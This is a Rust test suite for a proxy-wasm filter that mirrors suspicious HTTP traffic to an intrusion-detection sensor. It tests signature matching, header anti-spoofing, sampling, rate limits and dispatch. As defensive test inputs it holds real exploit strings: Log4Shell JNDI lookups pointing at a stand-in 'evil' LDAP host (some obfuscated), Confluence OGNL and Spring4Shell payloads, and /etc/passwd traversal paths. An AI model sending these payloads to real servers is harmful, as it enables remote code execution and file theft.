//! The mirror filter's real proxy-wasm dispatcher, driven natively through the test harness.
// Helpers outside `#[test]` functions are test code too.
#![allow(clippy::panic, clippy::unwrap_used, clippy::expect_used)]

mod stats;
use meshsight_policy::decision::{MirrorDecision, MirrorReason, MIRROR_DECISION_PROPERTY};
use meshsight_policy::sampling::sampled;
use proxy_wasm_test_host::{Action, Host, HttpCall, HttpCallResponse, Status};
use stats::counter;
use std::time::Duration;

const HEADER_ONLY: &str = r#"{"targets":{"ids":{"cluster":"sensor","delivery":"header"}}}"#;
const HEADER_HOLD: &str =
    r#"{"targets":{"ids":{"cluster":"sensor","delivery":"header"}},"hold_for_body":true}"#;
const DISPATCH_ONLY: &str = r#"{"targets":{"ids":{"cluster":"sensor","delivery":"dispatch"}}}"#;

fn start(policy: &str) -> Host {
    Host::builder(meshsight::register)
        .property(&["plugin_root_id"], "meshsight_mirror")
        .plugin_config(policy)
        .time_nanos(1_700_000_000_000_000_000)
        .start()
        .unwrap_or_else(|e| panic!("configure failed: {e}"))
}

fn get(path: &str) -> Vec<(&str, &str)> {
    vec![
        (":method", "GET"),
        (":path", path),
        (":authority", "shop.example.com"),
        (":scheme", "http"),
    ]
}

fn with<'a>(
    mut h: Vec<(&'a str, &'a str)>,
    extra: &[(&'a str, &'a str)],
) -> Vec<(&'a str, &'a str)> {
    h.extend_from_slice(extra);
    h
}

fn post<'a>(path: &'a str, content_type: &'a str) -> Vec<(&'a str, &'a str)> {
    vec![
        (":method", "POST"),
        (":path", path),
        (":authority", "shop.example.com"),
        (":scheme", "http"),
        ("content-type", content_type),
    ]
}

fn decision(host: &Host, id: u32) -> MirrorDecision {
    let bytes = host
        .stream_property(id, &[MIRROR_DECISION_PROPERTY])
        .unwrap_or_else(|| panic!("no decision in filter state for stream {id}"));
    serde_json::from_slice(&bytes).unwrap()
}

fn header<'a>(map: &'a [(String, String)], name: &str) -> Vec<&'a str> {
    map.iter()
        .filter(|(n, _)| n == name)
        .map(|(_, v)| v.as_str())
        .collect()
}

/// Lets the root context send what the streams queued (it does on its 1 ms tick), then lists
/// the calls not yet answered.
fn calls(host: &mut Host) -> Vec<HttpCall> {
    host.tick();
    host.http_calls()
}

/// Sends a complete header-only request; returns the stream id.
fn send(host: &mut Host, headers: &[(&str, &str)]) -> u32 {
    let id = host.new_http_stream();
    assert_eq!(host.request_headers(id, headers, true), Action::Continue);
    id
}

// ---- configuration ----

#[test]
fn bad_policy_is_refused_naming_the_json_path() {
    let err = Host::builder(meshsight::register).property(&["plugin_root_id"], "meshsight_mirror")
        .plugin_config(
            r#"{"targets":{"ids":{"cluster":"s","delivery":"header"}},
                "rules":[{"name":"a","action":{"type":"always"}},{"name":"b","action":{"type":"sample","fraction":2}}]}"#,
        )
        .start()
        .err()
        .expect("a bad policy must be refused");
    let text = err.to_string();
    assert!(
        text.contains("rules[1].action.fraction: must be within 0.0..=1.0"),
        "{text}"
    );
    let err = Host::builder(meshsight::register)
        .property(&["plugin_root_id"], "meshsight_mirror")
        .plugin_config(r#"{"targets":{"ids":{"cluster":"s","delivery":"header","colour":"red"}}}"#)
        .start()
        .err()
        .expect("unknown field");
    assert!(
        err.to_string()
            .contains("targets.ids.colour: unknown field"),
        "{err}"
    );
}

// ---- header delivery and anti-spoofing ----

#[test]
fn header_mode_sets_the_decision_header_and_clears_the_route_cache() {
    let mut host = start(
        r#"{"targets":{"ids":{"cluster":"sensor","delivery":"header"}},
            "rules":[{"name":"admin","request":{"paths":[{"prefix":"/admin/"}]},"action":{"type":"always"}}]}"#,
    );
    let id = send(&mut host, &get("/admin/users"));
    assert_eq!(
        header(&host.request_header_map(id), "x-meshsight-mirror"),
        vec!["ids"]
    );
    assert!(host.route_cache_cleared(id));
    let d = decision(&host, id);
    assert_eq!(
        (d.mirrored, d.target.as_deref(), d.reason, d.rule.as_deref()),
        (true, Some("ids"), MirrorReason::Rule, Some("admin"))
    );
    assert_eq!(
        counter(&mut host, "meshsight_mirror_mirrored_ids_rule"),
        Some(1)
    );
    assert!(
        calls(&mut host).is_empty(),
        "header mode sends nothing itself"
    );

    let benign = send(&mut host, &get("/shop"));
    assert!(header(&host.request_header_map(benign), "x-meshsight-mirror").is_empty());
    assert!(!host.route_cache_cleared(benign));
    assert_eq!(decision(&host, benign).reason, MirrorReason::NotSelected);
    assert_eq!(counter(&mut host, "meshsight_mirror_not_selected"), Some(1));
}

#[test]
fn client_supplied_decision_headers_are_always_removed() {
    let mut host = start(
        r#"{"targets":{"ids":{"cluster":"sensor","delivery":"header","header":"x-soc-copy"},
                        "bulk":{"cluster":"bulk","delivery":"header"}},
            "default_target":"ids",
            "rules":[{"name":"admin","request":{"paths":[{"prefix":"/admin"}]},"action":{"type":"always"},"target":"bulk"}]}"#,
    );
    // A benign request asking to be mirrored is not.
    let id = send(
        &mut host,
        &with(
            get("/shop"),
            &[("x-meshsight-mirror", "bulk"), ("X-SOC-Copy", "ids")],
        ),
    );
    let map = host.request_header_map(id);
    assert!(header(&map, "x-meshsight-mirror").is_empty(), "{map:?}");
    assert!(header(&map, "x-soc-copy").is_empty(), "{map:?}");
    assert!(!decision(&host, id).mirrored);
    assert_eq!(
        counter(&mut host, "meshsight_mirror_spoofed_header_removed"),
        Some(2)
    );
    // A selected request cannot steer its copy elsewhere: the header carries our value only.
    let id = send(
        &mut host,
        &with(get("/admin"), &[("x-meshsight-mirror", "ids")]),
    );
    assert_eq!(
        header(&host.request_header_map(id), "x-meshsight-mirror"),
        vec!["bulk"]
    );
    // An attacker cannot hide an exploit by pre-setting "no".
    let id = send(
        &mut host,
        &with(get("/x?f=../../etc/passwd"), &[("x-soc-copy", "none")]),
    );
    assert_eq!(
        header(&host.request_header_map(id), "x-soc-copy"),
        vec!["ids"]
    );
}

// ---- signatures through the filter ----

#[test]
fn each_head_signature_category_mirrors_with_its_category() {
    let mut host = start(HEADER_ONLY);
    let cases: Vec<(Vec<(&str, &str)>, &str)> =
        vec![
        (with(get("/"), &[("user-agent", "${${lower:j}ndi:ldap://evil/a}")]), "log4shell"),
        (get("/?q=%24%7Bjndi%3Aldap%3A%2F%2Fe%7D"), "log4shell"),
        (get("/%24%7B%40java.lang.Runtime%40getRuntime%28%29%7D/"), "confluence_ognl"),
        (
            get("/pages/doenterpagevariables.action?queryString=%5Cu0027%2b%23%7B1%7D%2b%5Cu0027"),
            "confluence_ognl",
        ),
        (get("/app?class.module.classLoader.URLs%5B0%5D=0"), "spring4shell"),
        (get("/app?class%5B%27module%27%5D%5B%27classLoader%27%5D.x=1"), "spring4shell"),
        (get("/static/..%2f..%2fetc/passwd"), "path_traversal"),
        (get("/static/%252e%252e%252fsecret"), "path_traversal"),
    ];
    for (headers, category) in cases {
        let id = send(&mut host, &headers);
        let d = decision(&host, id);
        assert!(d.mirrored, "{headers:?}");
        assert_eq!(d.reason, MirrorReason::Signature);
        assert!(
            d.signatures.iter().any(|s| s == category),
            "{headers:?}: {d:?}"
        );
        assert_eq!(
            header(&host.request_header_map(id), "x-meshsight-mirror"),
            vec!["ids"]
        );
    }
    assert_eq!(
        counter(&mut host, "meshsight_mirror_signature_log4shell"),
        Some(2)
    );
    assert_eq!(
        counter(&mut host, "meshsight_mirror_signature_path_traversal"),
        Some(2)
    );
    assert_eq!(
        counter(&mut host, "meshsight_mirror_mirrored_ids_signature"),
        Some(8)
    );
    for benign in [
        "/docs/v1..2/",
        "/search?q=class",
        "/pages/view.action?x=%23%7B",
    ] {
        let id = send(&mut host, &get(benign));
        assert!(!decision(&host, id).mirrored, "{benign}");
    }
}

#[test]
fn body_signatures_hold_the_request_only_until_the_body_is_read() {
    let mut host = start(HEADER_HOLD);
    // WordPress multicall, in two chunks: paused until the end, then the header is set.
    let id = host.new_http_stream();
    assert_eq!(
        host.request_headers(id, &post("/xmlrpc.php", "text/xml"), false),
        Action::Pause
    );
    assert_eq!(
        host.request_body(id, b"<methodCall><methodName>system.mul", false),
        Action::Pause
    );
    assert_eq!(
        host.request_body(id, b"ticall</methodName></methodCall>", true),
        Action::Continue
    );
    let d = decision(&host, id);
    assert_eq!(d.signatures, vec!["wordpress_xmlrpc"]);
    assert_eq!(
        header(&host.request_header_map(id), "x-meshsight-mirror"),
        vec!["ids"]
    );
    assert!(host.route_cache_cleared(id));

    // Form body, encoded Spring4Shell, and JSON with \u escapes hiding Log4Shell.
    for (ct, body, category) in [
        (
            "application/x-www-form-urlencoded",
            &b"class%2Emodule%2EclassLoader.resources.context.parent.pipeline.first.pattern=x"[..],
            "spring4shell",
        ),
        (
            "application/json",
            &br#"{"user":"\u0024\u007b\u006a\u006e\u0064\u0069:ldap://e/a}"}"#[..],
            "log4shell",
        ),
    ] {
        let id = host.new_http_stream();
        assert_eq!(
            host.request_headers(id, &post("/api", ct), false),
            Action::Pause
        );
        assert_eq!(host.request_body(id, body, true), Action::Continue);
        assert_eq!(decision(&host, id).signatures, vec![category]);
    }

    // A benign body: held until read, then let go, not mirrored.
    let id = host.new_http_stream();
    assert_eq!(
        host.request_headers(id, &post("/api", "application/json"), false),
        Action::Pause
    );
    assert_eq!(
        host.request_body(id, br#"{"q":"shoes"}"#, true),
        Action::Continue
    );
    assert!(!decision(&host, id).mirrored);
    assert!(header(&host.request_header_map(id), "x-meshsight-mirror").is_empty());
}

#[test]
fn the_request_is_let_go_once_max_body_bytes_are_read() {
    let mut host = start(
        r#"{"targets":{"ids":{"cluster":"sensor","delivery":"header"}},"max_body_bytes":32,"hold_for_body":true}"#,
    );
    let id = host.new_http_stream();
    assert_eq!(
        host.request_headers(id, &post("/api", "text/plain"), false),
        Action::Pause
    );
    assert_eq!(host.request_body(id, &[b'a'; 20], false), Action::Pause);
    // 40 bytes buffered >= 32: decided and continued before the end of the stream.
    assert_eq!(host.request_body(id, &[b'b'; 20], false), Action::Continue);
    assert!(!decision(&host, id).mirrored);
    assert_eq!(
        counter(&mut host, "meshsight_mirror_body_truncated"),
        Some(1)
    );
    // Later chunks flow untouched; an indicator past the limit is not seen.
    assert_eq!(
        host.request_body(id, b"${jndi:ldap://e}", true),
        Action::Continue
    );
    assert!(!decision(&host, id).mirrored);
}

#[test]
fn nothing_is_held_when_no_signature_looks_in_bodies() {
    let mut host = start(
        r#"{"targets":{"ids":{"cluster":"sensor","delivery":"header"}},"signatures":{"inspect_body":false},"hold_for_body":true}"#,
    );
    let id = host.new_http_stream();
    assert_eq!(
        host.request_headers(id, &post("/xmlrpc.php", "text/xml"), false),
        Action::Continue
    );
    assert_eq!(
        host.request_body(id, b"system.multicall", true),
        Action::Continue
    );
    assert!(!decision(&host, id).mirrored);
}

#[test]
fn only_path_gated_body_signatures_hold_only_their_paths() {
    let mut host2 = start(
        r#"{"targets":{"ids":{"cluster":"sensor","delivery":"header"}},
            "signatures":{"categories":{"log4shell":false,"spring4shell":false,
                "cloud_metadata":false,"download_exec":false}},"hold_for_body":true}"#,
    );
    // Only path-gated body signatures remain: other paths are not held.
    let id = host2.new_http_stream();
    assert_eq!(
        host2.request_headers(id, &post("/api", "text/plain"), false),
        Action::Continue
    );
    let id = host2.new_http_stream();
    assert_eq!(
        host2.request_headers(id, &post("/xmlrpc.php", "text/xml"), false),
        Action::Pause
    );
}

#[test]
fn trailers_and_early_stream_end_still_decide() {
    let mut host = start(HEADER_HOLD);
    let id = host.new_http_stream();
    assert_eq!(
        host.request_headers(id, &post("/api", "text/plain"), false),
        Action::Pause
    );
    assert_eq!(
        host.request_body(id, b"${jndi:rmi://e/x}", false),
        Action::Pause
    );
    assert_eq!(
        host.request_trailers(id, &[("x-checksum", "1")]),
        Action::Continue
    );
    assert_eq!(decision(&host, id).signatures, vec!["log4shell"]);

    let id = host.new_http_stream();
    assert_eq!(
        host.request_headers(id, &post("/api", "text/plain"), false),
        Action::Pause
    );
    assert_eq!(host.request_body(id, b"${jndi:", false), Action::Pause);
    host.log(id);
    let d = decision(&host, id);
    assert_eq!(d.signatures, vec!["log4shell"]);
    // The route can no longer mirror: the copy of what was read goes by HTTP call.
    assert!(d.mirrored);
    let sent = calls(&mut host);
    assert_eq!(sent.len(), 1);
    assert_eq!(sent[0].upstream, "sensor");
    assert_eq!(sent[0].body, b"${jndi:");
}

// ---- rules through the filter ----

#[test]
fn source_rules_read_connection_properties() {
    let mut host = start(
        r#"{"targets":{"ids":{"cluster":"sensor","delivery":"header"}},
            "rules":[{"name":"payments","sources":{"namespaces":["payments"]},"action":{"type":"always"}},
                     {"name":"batch","sources":{"principals":["spiffe://cluster.local/ns/batch/*"]},"action":{"type":"always"}},
                     {"name":"office","sources":{"cidrs":["192.0.2.0/24"]},"action":{"type":"always"}}]}"#,
    );
    let run = |host: &mut Host, principal: Option<&str>, address: &str| {
        let id = host.new_http_stream();
        if let Some(p) = principal {
            host.set_stream_property(id, &["connection", "uri_san_peer_certificate"], p);
        }
        host.set_stream_property(id, &["source", "address"], address);
        host.request_headers(id, &get("/"), true);
        decision(host, id).rule
    };
    assert_eq!(
        run(
            &mut host,
            Some("spiffe://cluster.local/ns/payments/sa/api"),
            "10.0.0.1:1234"
        )
        .as_deref(),
        Some("payments")
    );
    assert_eq!(
        run(
            &mut host,
            Some("spiffe://cluster.local/ns/batch/sa/cron"),
            "10.0.0.1:1234"
        )
        .as_deref(),
        Some("batch")
    );
    assert_eq!(
        run(&mut host, None, "192.0.2.44:555").as_deref(),
        Some("office")
    );
    assert_eq!(run(&mut host, None, "[2001:db8::1]:555"), None);
    // A header cannot impersonate a namespace.
    let id = host.new_http_stream();
    host.request_headers(
        id,
        &with(
            get("/"),
            &[(
                "x-forwarded-client-cert",
                "URI=spiffe://cluster.local/ns/payments/sa/x",
            )],
        ),
        true,
    );
    assert_eq!(decision(&host, id).rule, None);
}

#[test]
fn request_rules_methods_hosts_paths_headers_and_never() {
    let mut host = start(
        r#"{"targets":{"ids":{"cluster":"sensor","delivery":"header"}},
            "rules":[{"name":"health","request":{"paths":[{"exact":"/healthz"}]},"action":{"type":"never"}},
                     {"name":"deletes","request":{"methods":["DELETE"]},"action":{"type":"always"}},
                     {"name":"admin-host","request":{"hosts":["*.admin.example.com"]},"action":{"type":"always"}},
                     {"name":"scanner","request":{"headers":[{"name":"user-agent","contains":"nikto"}]},"action":{"type":"always"}}]}"#,
    );
    let id = send(&mut host, &get("/healthz"));
    let d = decision(&host, id);
    assert_eq!((d.mirrored, d.rule.as_deref()), (false, Some("health")));
    // `never` does not silence a signature.
    let id = send(
        &mut host,
        &with(get("/healthz"), &[("x-a", "${jndi:ldap://e}")]),
    );
    assert_eq!(decision(&host, id).reason, MirrorReason::Signature);
    let mut del = get("/items/1");
    del[0] = (":method", "DELETE");
    let id = send(&mut host, &del);
    assert_eq!(decision(&host, id).rule.as_deref(), Some("deletes"));
    let mut h = get("/");
    h[2] = (":authority", "eu.admin.example.com");
    let id = send(&mut host, &h);
    assert_eq!(decision(&host, id).rule.as_deref(), Some("admin-host"));
    let id = send(
        &mut host,
        &with(get("/"), &[("user-agent", "Mozilla/5.00 (Nikto/2.1.6)")]),
    );
    assert_eq!(decision(&host, id).rule.as_deref(), Some("scanner"));
}

// ---- sampling ----

#[test]
fn sampling_follows_the_request_id_deterministically() {
    let mut host = start(
        r#"{"targets":{"ids":{"cluster":"sensor","delivery":"header","max_rps":100000}},
            "rules":[{"name":"rest","action":{"type":"sample","fraction":0.25}}]}"#,
    );
    let mut picked = 0;
    for i in 0..400 {
        let rid = format!("6f1c2a7e-0000-4000-8000-{i:012}");
        let first = send(&mut host, &with(get("/"), &[("x-request-id", &rid)]));
        let again = send(&mut host, &with(get("/other"), &[("x-request-id", &rid)]));
        let (a, b) = (decision(&host, first), decision(&host, again));
        assert_eq!(a.mirrored, b.mirrored, "same id, same decision: {rid}");
        assert_eq!(a.mirrored, sampled(Some(&rid), 0.25), "{rid}");
        if a.mirrored {
            assert_eq!(a.reason, MirrorReason::Sample);
            picked += 1;
        }
    }
    assert!((70..=130).contains(&picked), "{picked} of 400 at 0.25");
    // No id: not sampled.
    let id = send(&mut host, &get("/"));
    assert!(!decision(&host, id).mirrored);
}

// ---- rate cap ----

#[test]
fn the_rate_cap_counts_excess_and_refills_with_time() {
    let mut host = start(
        r#"{"targets":{"ids":{"cluster":"sensor","delivery":"header","max_rps":2,"burst":2}},
            "rules":[{"name":"all","action":{"type":"always"}}]}"#,
    );
    let ids: Vec<u32> = (0..5).map(|_| send(&mut host, &get("/"))).collect();
    let got: Vec<(bool, MirrorReason)> = ids
        .iter()
        .map(|id| {
            let d = decision(&host, *id);
            (d.mirrored, d.reason)
        })
        .collect();
    assert_eq!(
        got,
        vec![
            (true, MirrorReason::Rule),
            (true, MirrorReason::Rule),
            (false, MirrorReason::RateLimited),
            (false, MirrorReason::RateLimited),
            (false, MirrorReason::RateLimited),
        ]
    );
    assert!(header(&host.request_header_map(ids[3]), "x-meshsight-mirror").is_empty());
    assert_eq!(counter(&mut host, "meshsight_mirror_rate_limited"), Some(3));
    assert_eq!(
        counter(&mut host, "meshsight_mirror_rate_limited_ids"),
        Some(3)
    );
    host.advance_time(Duration::from_millis(500));
    let id = send(&mut host, &get("/"));
    assert!(decision(&host, id).mirrored, "one token after 0.5 s at 2/s");
}

// ---- dispatch delivery ----

#[test]
fn dispatch_mode_sends_the_copy_without_secrets() {
    let mut host = start(DISPATCH_ONLY);
    let id = host.new_http_stream();
    let headers = with(
        post(
            "/login?x=../../etc/passwd",
            "application/x-www-form-urlencoded",
        ),
        &[
            ("authorization", "Bearer secret"),
            ("cookie", "session=secret"),
            ("proxy-authorization", "Basic secret"),
            ("x-request-id", "r-1"),
            ("content-length", "7"),
            ("x-meshsight-mirror-reason", "client-says-benign"),
        ],
    );
    // A head signature matched: nothing waits, the body is copied as it passes.
    assert_eq!(host.request_headers(id, &headers, false), Action::Continue);
    assert!(calls(&mut host).is_empty(), "the copy waits for the body");
    assert_eq!(host.request_body(id, b"u=a", false), Action::Continue);
    assert_eq!(host.request_body(id, b"&p=b", true), Action::Continue);
    let sent = calls(&mut host);
    assert_eq!(sent.len(), 1);
    let call = &sent[0];
    assert_eq!(call.upstream, "sensor");
    assert_eq!(call.body, b"u=a&p=b");
    assert_eq!(call.timeout, Duration::from_millis(1000));
    let h = &call.headers;
    assert_eq!(header(h, ":method"), vec!["POST"]);
    assert_eq!(header(h, ":path"), vec!["/login?x=../../etc/passwd"]);
    assert_eq!(header(h, ":authority"), vec!["shop.example.com"]);
    assert_eq!(header(h, "x-request-id"), vec!["r-1"]);
    assert_eq!(
        header(h, "x-meshsight-mirror-reason"),
        vec!["signature"],
        "only our own decision headers"
    );
    assert_eq!(
        header(h, "x-meshsight-mirror-signatures"),
        vec!["path_traversal"]
    );
    for secret in [
        "authorization",
        "cookie",
        "proxy-authorization",
        "content-length",
    ] {
        assert!(
            header(h, secret).is_empty(),
            "{secret} must not reach the sensor"
        );
    }
    assert!(header(&host.request_header_map(id), "x-meshsight-mirror").is_empty());
    assert!(decision(&host, id).mirrored);
    host.respond_http_call(call.token, HttpCallResponse::status("200", b"".to_vec()));
    assert_eq!(
        counter(&mut host, "meshsight_mirror_dispatch_failed"),
        Some(0)
    );
}

#[test]
fn dispatch_keeps_secrets_when_the_target_asks_and_overrides_authority() {
    let mut host = start(
        r#"{"targets":{"ids":{"cluster":"sensor","delivery":"dispatch","include_secrets":true,"authority":"sensor.soc","timeout_ms":250}},
            "rules":[{"name":"all","action":{"type":"always"}}]}"#,
    );
    send(
        &mut host,
        &with(
            get("/"),
            &[("authorization", "Bearer t"), ("cookie", "s=1")],
        ),
    );
    let call = &calls(&mut host)[0];
    assert_eq!(header(&call.headers, "authorization"), vec!["Bearer t"]);
    assert_eq!(header(&call.headers, "cookie"), vec!["s=1"]);
    assert_eq!(header(&call.headers, ":authority"), vec!["sensor.soc"]);
    assert_eq!(
        header(&call.headers, "x-meshsight-mirror-rule"),
        vec!["all"]
    );
    assert_eq!(call.timeout, Duration::from_millis(250));
    assert!(call.body.is_empty());
}

#[test]
fn dispatch_body_is_inspected_without_holding_and_copied_up_to_the_limit() {
    let mut host = start(
        r#"{"targets":{"ids":{"cluster":"sensor","delivery":"dispatch"}},"max_body_bytes":24}"#,
    );
    let id = host.new_http_stream();
    // Dispatch only: the body is read as it flows, never paused.
    assert_eq!(
        host.request_headers(id, &post("/api", "text/plain"), false),
        Action::Continue
    );
    assert_eq!(
        host.request_body(id, b"x=${jndi:ldap://e/a}", false),
        Action::Continue
    );
    assert!(calls(&mut host).is_empty());
    assert_eq!(
        host.request_body(id, b" and more bytes", true),
        Action::Continue
    );
    let sent = calls(&mut host);
    assert_eq!(sent.len(), 1);
    assert_eq!(sent[0].body, b"x=${jndi:ldap://e/a} and");
    assert_eq!(
        header(&sent[0].headers, "x-meshsight-mirror-body-truncated"),
        vec!["true"]
    );
    assert_eq!(decision(&host, id).signatures, vec!["log4shell"]);
}

#[test]
fn calls_in_flight_are_bounded_and_drops_counted() {
    let mut host = start(
        r#"{"targets":{"ids":{"cluster":"sensor","delivery":"dispatch","max_in_flight":2,"timeout_ms":1000}},
            "rules":[{"name":"all","action":{"type":"always"}}]}"#,
    );
    // Queued copies count against the bound too.
    let ids: Vec<u32> = (0..3).map(|_| send(&mut host, &get("/"))).collect();
    assert!(decision(&host, ids[0]).mirrored && decision(&host, ids[1]).mirrored);
    assert!(!decision(&host, ids[2]).mirrored);
    assert_eq!(
        counter(&mut host, "meshsight_mirror_in_flight_dropped"),
        Some(1)
    );
    let pending = calls(&mut host);
    assert_eq!(pending.len(), 2);
    assert_eq!(
        host.tick_period(),
        Some(meshsight::host::FLUSH_PERIOD),
        "the send tick gives way to the counters' flush once the queue is empty"
    );
    assert!(
        pending
            .iter()
            .all(|c| c.context_id == host.root_context_id()),
        "the root context owns the calls"
    );
    assert_eq!(
        counter(&mut host, "meshsight_mirror_mirrored_ids_rule"),
        Some(2)
    );
    // The streams end before the sensor answers: the calls live on, and still count.
    for id in &ids {
        host.done(*id);
    }
    assert_eq!(calls(&mut host).len(), 2);
    let id = send(&mut host, &get("/"));
    assert!(!decision(&host, id).mirrored);
    assert_eq!(
        counter(&mut host, "meshsight_mirror_in_flight_dropped"),
        Some(2)
    );
    // A late answer is still seen, and frees its slot.
    host.respond_http_call(
        pending[0].token,
        HttpCallResponse::status("204", b"".to_vec()),
    );
    let id = send(&mut host, &get("/"));
    assert!(decision(&host, id).mirrored);
    assert_eq!(calls(&mut host).len(), 2);
    // Calls Envoy never answered (timeout + 1 s grace) stop counting, and are reported.
    host.advance_time(Duration::from_millis(2100));
    let id = send(&mut host, &get("/"));
    assert!(decision(&host, id).mirrored);
    assert_eq!(
        counter(&mut host, "meshsight_mirror_dispatch_unconfirmed"),
        Some(2)
    );
    assert_eq!(
        counter(&mut host, "meshsight_mirror_dispatch_failed"),
        Some(0)
    );
}

#[test]
fn dispatch_failures_are_counted_and_a_failing_sensor_is_rested() {
    let mut host = start(
        r#"{"targets":{"ids":{"cluster":"missing","delivery":"dispatch"}},
            "rules":[{"name":"all","action":{"type":"always"}}]}"#,
    );
    // Envoy refuses the call (unknown cluster).
    host.set_http_call_error(Some(Status::BadArgument));
    let id = send(&mut host, &get("/"));
    assert!(calls(&mut host).is_empty());
    assert!(host.local_response(id).is_none());
    assert_eq!(
        counter(&mut host, "meshsight_mirror_dispatch_failed"),
        Some(1)
    );
    host.set_http_call_error(None);
    // A reset (no headers) and a 503 (refused connection) are failures; the request is fine.
    let id = send(&mut host, &get("/"));
    let token = calls(&mut host)[0].token;
    host.fail_http_call(token);
    assert_eq!(
        counter(&mut host, "meshsight_mirror_dispatch_failed"),
        Some(2)
    );
    assert!(host.local_response(id).is_none());
    send(&mut host, &get("/"));
    let token = calls(&mut host)[0].token;
    host.respond_http_call(token, HttpCallResponse::status("503", b"".to_vec()));
    assert_eq!(
        counter(&mut host, "meshsight_mirror_dispatch_failed"),
        Some(3)
    );
    // Three failures in a row: the target rests for 100 ms, copies are skipped and counted.
    let id = send(&mut host, &get("/"));
    assert!(!decision(&host, id).mirrored);
    assert!(calls(&mut host).is_empty());
    assert_eq!(
        counter(&mut host, "meshsight_mirror_target_resting"),
        Some(1)
    );
    host.advance_time(Duration::from_millis(100));
    let id = send(&mut host, &get("/"));
    assert!(decision(&host, id).mirrored, "a probe goes after the rest");
    let token = calls(&mut host)[0].token;
    host.respond_http_call(token, HttpCallResponse::status("200", b"".to_vec()));
    // Healthy again: every copy goes.
    for _ in 0..3 {
        send(&mut host, &get("/"));
    }
    assert_eq!(calls(&mut host).len(), 3);
    assert_eq!(
        counter(&mut host, "meshsight_mirror_target_resting"),
        Some(1)
    );
}

#[test]
fn without_hold_for_body_nothing_waits_and_a_late_hit_goes_by_http_call() {
    let mut host = start(HEADER_ONLY);
    let id = host.new_http_stream();
    assert_eq!(
        host.request_headers(id, &post("/xmlrpc.php", "text/xml"), false),
        Action::Continue
    );
    assert_eq!(
        host.request_body(id, b"<methodName>system.", false),
        Action::Continue
    );
    assert_eq!(
        host.request_body(id, b"multicall</methodName>", true),
        Action::Continue
    );
    let d = decision(&host, id);
    assert_eq!(
        (d.mirrored, d.signatures.clone()),
        (true, vec!["wordpress_xmlrpc".to_string()])
    );
    // Too late for the route: no decision header, the copy is dispatched to the cluster.
    assert!(header(&host.request_header_map(id), "x-meshsight-mirror").is_empty());
    let sent = calls(&mut host);
    assert_eq!(sent.len(), 1);
    assert_eq!(sent[0].upstream, "sensor");
    assert_eq!(sent[0].body, b"<methodName>system.multicall</methodName>");
    assert_eq!(
        header(&sent[0].headers, "x-meshsight-mirror-signatures"),
        vec!["wordpress_xmlrpc"]
    );
    // Head hits still use the header.
    let id = send(&mut host, &get("/a/../../etc/passwd"));
    assert_eq!(
        header(&host.request_header_map(id), "x-meshsight-mirror"),
        vec!["ids"]
    );
    assert_eq!(calls(&mut host).len(), 1);
}

#[test]
fn without_hold_rules_still_use_the_header_and_a_body_hit_upgrades_the_decision() {
    let mut host = start(
        r#"{"targets":{"ids":{"cluster":"sensor","delivery":"header"}},
            "rules":[{"name":"orders","request":{"paths":[{"prefix":"/orders"}]},"action":{"type":"always"}}]}"#,
    );
    // Rule-selected, with a body to inspect: the header is set before the headers go on.
    let id = host.new_http_stream();
    assert_eq!(
        host.request_headers(id, &post("/orders", "application/json"), false),
        Action::Continue
    );
    assert_eq!(
        header(&host.request_header_map(id), "x-meshsight-mirror"),
        vec!["ids"]
    );
    assert_eq!(
        host.request_body(id, br#"{"note":"${jndi:ldap://e/a}"}"#, true),
        Action::Continue
    );
    // The route's copy carries the body: no second copy, the decision says why.
    assert!(calls(&mut host).is_empty());
    let d = decision(&host, id);
    assert_eq!(
        (d.mirrored, d.reason, d.signatures.clone()),
        (true, MirrorReason::Signature, vec!["log4shell".to_string()])
    );
    assert_eq!(
        counter(&mut host, "meshsight_mirror_mirrored_ids_signature"),
        Some(1)
    );
    assert_eq!(counter(&mut host, "meshsight_mirror_requests"), Some(1));
    // A benign body keeps the rule decision.
    let id = host.new_http_stream();
    host.request_headers(id, &post("/orders", "application/json"), false);
    host.request_body(id, br#"{"item":1}"#, true);
    let d = decision(&host, id);
    assert_eq!(
        (d.reason, d.rule.as_deref()),
        (MirrorReason::Rule, Some("orders"))
    );
    assert!(calls(&mut host).is_empty());
}
